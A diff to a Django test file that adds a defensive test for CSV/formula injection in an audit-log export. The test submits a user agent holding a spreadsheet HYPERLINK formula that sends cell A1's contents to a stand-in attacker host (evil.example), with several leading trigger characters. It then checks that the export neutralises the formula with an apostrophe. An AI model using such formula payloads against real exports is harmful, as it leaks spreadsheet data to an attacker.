@@ -247,6 +247,18 @@ def test_export_streams_the_filtered_trail_as_csv_and_is_itself_audited(client, 
     assert export.detail == {"query": {"candidate": str(trail["bo"].pk)}, "rows": 2}
 
 
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t=", "\r="])
+def test_export_neutralises_spreadsheet_formulas_a_visitor_typed(client, hr_admin, lead):
+    """A failed sign-in's user agent is whatever the visitor sent; a spreadsheet opening the
+    export must read it as text, also behind a tab or carriage return (OWASP's CSV injection list)."""
+    agent = f'{lead}HYPERLINK("https://evil.example/?x="&A1,"open")'
+    client.post("/account/sign-in/", {"username": "mallory", "password": "x"}, HTTP_USER_AGENT=agent)
+    client.force_login(hr_admin)
+    response = client.get(EXPORT, {"action": "login_failed"})
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["user_agent"] == "'" + agent
+
+
 def test_export_with_a_bad_filter_is_the_page_with_the_error(client, hr_admin, trail):
     client.force_login(hr_admin)
     response = client.get(EXPORT, {"date_to": "31/31/2027"})
